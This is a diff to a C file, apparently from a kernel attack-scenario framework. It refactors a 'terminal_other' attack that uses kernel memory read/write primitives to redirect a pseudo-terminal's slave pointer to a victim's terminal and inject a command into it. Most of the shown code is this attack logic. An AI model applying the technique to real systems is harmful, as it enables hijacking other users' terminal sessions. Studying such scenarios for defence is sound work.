@@ -1,8 +1,6 @@
 // SPDX-License-Identifier: GPL-2.0-only
 #include "commands.h"
 
-#include <asm/ioctls.h>
-
 ATTACK("page_cache_integrity", "terminal_other",
        "page_cache_integrity: bytes for the terminal of another",
        "The program changes which terminal is the slave of its own master to that of a "
@@ -12,20 +10,15 @@ ATTACK("page_cache_integrity", "terminal_other",
 
 #define SEARCHED 8192u /* bytes of a pair */
 
-/* A terminal of one's own: the master, and the address of what says which terminal is its slave. */
-static uint64_t slave_place(long *master)
+/* What says, of a master, which terminal is its slave: in its pair. */
+static uint64_t slave_place(int master, int slave)
 {
-	uint64_t pair, slave;
-	int unlocked = 0;
-	long file;
+	const uint64_t task = own_task(), private = member("file.private");
+	const uint64_t pair = peek(file_struct(task, master) + private),
+		       terminal = peek(file_struct(task, slave) + private);
 
-	*master = call3(__NR_open, (long)"/dev/ptmx", O_RDWR | O_NOCTTY, 0);
-	call3(__NR_ioctl, *master, TIOCSPTLCK, (long)&unlocked);
-	file = call3(__NR_ioctl, *master, TIOCGPTPEER, O_RDWR | O_NOCTTY);
-	pair = peek(file_struct(own_task(), (int)*master) + member("file.private"));
-	slave = peek(file_struct(own_task(), (int)file) + member("file.private"));
 	for (uint64_t at = pair; at < pair + SEARCHED; at += 8)
-		if (peek(at) == slave)
+		if (peek(at) == terminal)
 			return at;
 	say_part("attacker: there is no slave in its pair\n");
 	leave(9);
@@ -34,8 +27,9 @@ static uint64_t slave_place(long *master)
 static bool fire(void)
 {
 	static const char line[] = { PUBLISH_COMMAND, '\n' };
-	long master;
-	const uint64_t place = slave_place(&master), own = peek(place);
+	int master;
+	const int slave = open_terminal(&master);
+	const uint64_t place = slave_place(master, slave), own = peek(place);
 
 	poke(place, victim_object());
 	call3(__NR_write, master, (long)line, sizeof(line));
@@ -45,9 +39,7 @@ static bool fire(void)
 
 static void victim(void)
 {
-	const long master = call3(__NR_open, (long)"/dev/ptmx", O_RDWR | O_NOCTTY, 0);
-	int unlocked = 0;
+	int master;
 
-	call3(__NR_ioctl, master, TIOCSPTLCK, (long)&unlocked);
-	obey((int)call3(__NR_ioctl, master, TIOCGPTPEER, O_RDWR | O_NOCTTY));
+	obey(open_terminal(&master));
 }
